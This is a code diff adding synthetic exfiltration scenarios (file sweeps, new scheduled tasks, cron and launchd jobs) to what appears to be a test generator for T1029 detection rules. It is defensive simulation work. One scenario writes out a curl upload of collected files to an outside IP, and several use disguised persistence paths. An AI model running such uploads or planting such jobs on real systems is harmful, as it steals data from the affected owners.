@@ -5,9 +5,11 @@ from __future__ import annotations
 from typing import NamedTuple
 
 from office import schedules
-from office.habits import Habit, local
+from office.habits import Habit, local, steady
+from office.jobs import Job
 from office.malware import KB, MALWARE, MB
-from office.schedules import DAY, MINUTE
+from office.schedules import DAY, HOUR, MINUTE
+from office.sweeps import CONTRACTS, SHARES, Sweep
 
 VOLUME = "T1029 - High Volume Transfer at Specific Intervals - Rule"
 RECURRING = "T1029 - Recurring Connections to One Destination - Rule"
@@ -16,10 +18,17 @@ TIME_OF_DAY = "T1029 - Same Time of Day on Several Days - Rule"
 CHANGING = "T1029 - One Schedule to Changing Destinations - Rule"
 PROCESS = "T1029 - Process That Normally Does Not Use the Network - Rule"
 PORT = "T1029 - Non-standard Port or Unexpected Encryption - Rule"
+TRAVERSAL = "T1029 - File Traversal Followed by Transfer - Rule"
+HARDWARE = "T1029 - Unknown Hardware Sending Data - Rule"
+JOB = "T1029 - Scheduled Job Followed by Transfer - Rule"
 
 
 class Scenario(NamedTuple):
-    """A planted transfer; `begins` and `rotate` in seconds, `rotate` 0 keeps one destination."""
+    """A planted transfer; `begins` and `rotate` in seconds, `rotate` 0 keeps one destination.
+
+    `via` is what goes before each transfer on the machine itself; `lasting` says that one process
+    does it all, where otherwise each transfer has a process of its own.
+    """
 
     name: str
     what: str
@@ -31,10 +40,12 @@ class Scenario(NamedTuple):
     listed: bool = False
     begins: float = 0.0
     rotate: float = 0.0
+    via: Job | Sweep | None = None
+    lasting: bool = False
 
     @property
     def attack(self) -> str:
-        """The ATT&CK id of the malware that the schedule is after, or the technique's own."""
+        """The ATT&CK id of the malware or of the way in, or this technique's own."""
         actor = self.habit.attack_id
         return actor if actor == "T1029" else f"{actor} {self.habit.actor}"
 
@@ -50,6 +61,11 @@ _HABITS = {habit.name: habit for habit in MALWARE}
 
 def _after(name: str, **changes: object) -> Habit:
     return _HABITS[name]._replace(**changes)
+
+
+def _every_six_hours(rng, start, end, zone):
+    runs = (schedules.daily(rng, start, end, hour, 17, zone=zone) for hour in (0, 6, 12, 18))
+    return schedules.merge(*runs)
 
 
 SCENARIOS = (
@@ -189,5 +205,153 @@ SCENARIOS = (
         "desk-23",
         ("198.51.100.244",),
         _after("dipsind-office-hours", bytes_out=(300 * KB, 900 * KB), port=53, app="ssl"),
+    ),
+    Scenario(
+        "unexpected process of a user",
+        "a program in a user's own folder calls out about every 3 hours, from the second week on",
+        PROCESS,
+        "desk-01",
+        ("203.0.113.171",),
+        _after("kazuar-interval", times=steady(schedules.sleep, 3 * HOUR, 0.2)),
+        process=r"C:\Users\desk-01\AppData\Local\Temp\spool\printfix.exe",
+        begins=7 * DAY,
+    ),
+    Scenario(
+        "file sweep at a fixed hour",
+        "copies of dozens of documents, then 5 to 30 MB, at 18:40 every day",
+        TRAVERSAL,
+        "desk-13",
+        ("198.51.100.246",),
+        _after(
+            "nightly-exfiltration",
+            actor="Automated Collection",
+            attack_id="T1119",
+            times=local(schedules.daily, 18, 40, spread=3 * MINUTE),
+            bytes_out=(5 * MB, 30 * MB),
+        ),
+        process=r"C:\Users\desk-13\AppData\Roaming\Archive\packer.exe",
+        via=Sweep(CONTRACTS, "scan-{:03}.docx.part"),
+    ),
+    Scenario(
+        "file sweep at odd hours",
+        "copies of dozens of documents, then 5 to 30 MB, 18 to 30 hours after the last time",
+        TRAVERSAL,
+        "desk-17",
+        ("192.0.2.246",),
+        _after(
+            "nightly-exfiltration",
+            actor="Automated Collection",
+            attack_id="T1119",
+            times=steady(schedules.sleep, 30 * HOUR, 0.4),
+            bytes_out=(5 * MB, 30 * MB),
+        ),
+        process=r"C:\ProgramData\Printer\spoolmon.exe",
+        via=Sweep(CONTRACTS, "scan-{:03}.tmp"),
+        lasting=True,
+    ),
+    Scenario(
+        "file sweep of shares",
+        "dozens of files read from a file server's shares in Security 4663, then 5 to 30 MB",
+        TRAVERSAL,
+        "server-07",
+        ("203.0.113.178",),
+        _after(
+            "nightly-exfiltration",
+            actor="Automated Collection",
+            attack_id="T1119",
+            times=local(schedules.daily, 23, 30, spread=90 * MINUTE),
+            bytes_out=(5 * MB, 30 * MB),
+            port=8080,
+            app="http",
+        ),
+        process=r"C:\Windows\Temp\share-report.exe",
+        via=Sweep(SHARES, "file-{:03}.xlsx"),
+    ),
+    Scenario(
+        "unknown hardware",
+        "1 to 4 MB every 2 hours from hardware that appears in the second week",
+        HARDWARE,
+        "stranger-01",
+        ("198.51.100.248",),
+        _after(
+            "kazuar-interval",
+            actor="Hardware Additions",
+            attack_id="T1200",
+            times=steady(schedules.every, 2 * HOUR, 0.05),
+            bytes_out=(1 * MB, 4 * MB),
+        ),
+        process="",
+        begins=7 * DAY + 11 * HOUR,
+    ),
+    Scenario(
+        "new scheduled task",
+        "a task of Windows, new in the second week, sends 20 to 60 MB at 03:20 every day",
+        JOB,
+        "desk-15",
+        ("203.0.113.185",),
+        _after(
+            "nightly-exfiltration",
+            actor="Scheduled Task",
+            attack_id="T1053.005",
+            times=local(schedules.daily, 3, 20),
+            bytes_out=(20 * MB, 60 * MB),
+        ),
+        process=r"C:\ProgramData\Telemetry\diagtrack.exe",
+        begins=8 * DAY,
+        via=Job(
+            r"\Diagnostics\TrackingUpload",
+            r'"C:\ProgramData\Telemetry\diagtrack.exe" /upload',
+            created=7 * DAY + 14.4 * HOUR,
+        ),
+    ),
+    Scenario(
+        "new cron job",
+        "a cron job of Linux, new in the second week, sends 20 to 60 MB every 6 hours",
+        JOB,
+        "unix-02",
+        ("198.51.100.253",),
+        _after(
+            "nightly-exfiltration",
+            actor="Cron",
+            attack_id="T1053.003",
+            times=_every_six_hours,
+            bytes_out=(20 * MB, 60 * MB),
+        ),
+        process="/usr/bin/curl",
+        begins=7 * DAY + 13 * HOUR,
+        via=Job(
+            "www-data",
+            "/var/tmp/.sess/collect.sh",
+            user="www-data",
+            created=7 * DAY + 12.2 * HOUR,
+            lag=(3, 20),
+            children=(
+                ("/usr/bin/bash", "/bin/bash /var/tmp/.sess/collect.sh"),
+                ("/usr/bin/curl", "curl -s -T /var/tmp/.sess/out https://198.51.100.253/up"),
+            ),
+        ),
+    ),
+    Scenario(
+        "new launchd job",
+        "a launchd job of macOS, new in the second week, sends 20 to 60 MB at 13:05 every day",
+        JOB,
+        "studio-02",
+        ("192.0.2.253",),
+        _after(
+            "nightly-exfiltration",
+            actor="Launch Agent",
+            attack_id="T1543.001",
+            times=local(schedules.daily, 13, 5),
+            bytes_out=(20 * MB, 60 * MB),
+        ),
+        process="/Users/studio-02/Library/LaunchAgents/.fonts/fontsyncd",
+        begins=8 * DAY,
+        via=Job(
+            "com.example.fontsyncd",
+            "/Users/studio-02/Library/LaunchAgents/.fonts/fontsyncd --sync",
+            user="studio-02",
+            created=7 * DAY + 16.1 * HOUR,
+            lag=(5, 60),
+        ),
     ),
 )
